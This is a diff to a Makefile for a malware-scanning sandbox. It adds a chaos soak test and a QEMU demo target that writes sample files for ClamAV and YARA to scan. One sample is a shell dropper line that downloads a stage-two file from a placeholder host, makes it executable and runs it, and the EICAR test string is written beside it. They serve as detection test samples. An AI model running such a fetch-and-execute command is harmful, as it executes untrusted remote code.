@@ -12,7 +12,7 @@ BENCHTIME ?= 2s
 FUZZTIME      ?= 1m
 FUZZTIME_TEST ?= 3s
 
-.PHONY: all build test demo bench proto lint clean qemu-guest fuzz
+.PHONY: all build test demo demo-qemu bench proto lint clean qemu-guest fuzz soak
 
 all: build
 
@@ -31,6 +31,13 @@ test: build lint example
 		"(apt-get install --no-install-recommends qemu-system-x86 qemu-utils qemu-guest-agent busybox-static cpio)"
 	$(GO) test -race -count=1 -timeout 15m ./...
 	@$(MAKE) --no-print-directory fuzz FUZZTIME=$(FUZZTIME_TEST)
+
+# The long chaos test of the service (docs/server.md): three services on one
+# PostgreSQL, 300 tasks, a host SIGKILLed every 10 to 20 s, PostgreSQL away
+# once. Needs a PostgreSQL server (SANDBOX_TEST_POSTGRES, as .ci/services
+# sets it).
+soak: build
+	SANDBOX_SOAK=1 $(GO) test -race -count=1 -timeout 45m -run '^TestChaos$$' -v ./cmd/sandbox/
 
 # Every fuzz target (func FuzzX in a _test.go file) for FUZZTIME, one after
 # the other; a failing input lands in the package's testdata/fuzz.
@@ -64,16 +71,40 @@ demo: build
 	@echo
 	$(BIN)/sandbox vm list
 
+# The main job on real VMs with real engines (docs/examples/qemu.toml): two
+# QEMU VMs of the test guest scan a clean file, a shell dropper, the EICAR
+# file (written here from two halves) and ClamAV's 44 test files, each with
+# ClamAV and with YARA, then the analyses an hour this host did. Each VM
+# gets its own copy of the guest's disk, renewed when the guest is rebuilt.
+QDEMO  := $(BIN)/demo-qemu
+QGUEST := plugins/qemu/guest/cache
+demo-qemu: build qemu-guest
+	@rm -rf $(QDEMO) && mkdir -p $(QDEMO)/samples
+	@for vm in qemu-1 qemu-2; do \
+		[ $(BIN)/$$vm.qcow2 -nt $(QGUEST)/disk.qcow2 ] || cp $(QGUEST)/disk.qcow2 $(BIN)/$$vm.qcow2 || exit 1; \
+	done
+	@printf 'an ordinary text file\n' > $(QDEMO)/samples/notes.txt
+	@printf '#!/bin/sh\ncd /tmp && wget -q http://example.invalid/stage2 -O .s && chmod +x .s && ./.s\n' > $(QDEMO)/samples/dropper.sh
+	@printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$$' 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$$H+H*' > $(QDEMO)/samples/eicar.com
+	@cp $(QGUEST)/testfiles/* $(QDEMO)/samples/
+	@n=$$(ls $(QDEMO)/samples | wc -l); begun=$$(date +%s.%N); \
+	echo "$(BIN)/sandbox run --config docs/examples/qemu.toml --out $(QDEMO)/results $(QDEMO)/samples/*  ($$n samples)"; \
+	$(BIN)/sandbox run --config docs/examples/qemu.toml --out $(QDEMO)/results $(QDEMO)/samples/* || exit 1; \
+	awk -v n=$$((n * 2)) -v begun=$$begun -v ended=$$(date +%s.%N) 'BEGIN { s = ended - begun; \
+		printf "\n%d analyses (ClamAV and YARA on each sample) on 2 QEMU VMs in %.1f s: %.0f analyses an hour on this host.\n", n, s, n * 3600 / s }'
+
 # Micro-benchmarks run for BENCHTIME; the lifecycle ones take a simulated
-# second per cleanup, so they run a fixed number of cleanups instead, and
-# the engine's and the CLI's run whole analyses, once each.
+# second per cleanup, so they run a fixed number of cleanups instead, the
+# libvirt driver's a fixed number of restores and cleanups of real domains,
+# and the engine's and the CLI's run whole analyses, once each.
 bench: build
-	$(GO) test -run '^$$' -bench . -benchtime $(BENCHTIME) $$($(GO) list ./... | grep -v -e /core/lifecycle -e /core/engine -e /cmd/sandbox)
+	$(GO) test -run '^$$' -bench . -benchtime $(BENCHTIME) -timeout 30m $$($(GO) list ./... | grep -v -e /core/lifecycle -e /core/engine -e /cmd/sandbox -e /plugins/libvirt)
+	$(GO) test -run '^$$' -bench . -benchtime 5x ./plugins/libvirt/
 	$(GO) test -run '^$$' -bench . -benchtime 7x ./core/lifecycle/
 	$(GO) test -run '^$$' -bench . -benchtime 1x ./core/engine/ ./cmd/sandbox/
 
 proto:
-	@command -v protoc >/dev/null || { echo "protoc missing: apt-get install protobuf-compiler"; exit 1; }
+	@command -v protoc >/dev/null || { echo "protoc missing: apt-get install protobuf-compiler libprotobuf-dev"; exit 1; }
 	GOBIN=$(TOOLS) $(GO) install google.golang.org/protobuf/cmd/protoc-gen-go@$(PROTOC_GEN_GO_VERSION)
 	GOBIN=$(TOOLS) $(GO) install google.golang.org/grpc/cmd/protoc-gen-go-grpc@$(PROTOC_GEN_GO_GRPC_VERSION)
 	PATH=$(TOOLS):$$PATH protoc -I sdk/internal/pb -I /usr/include \
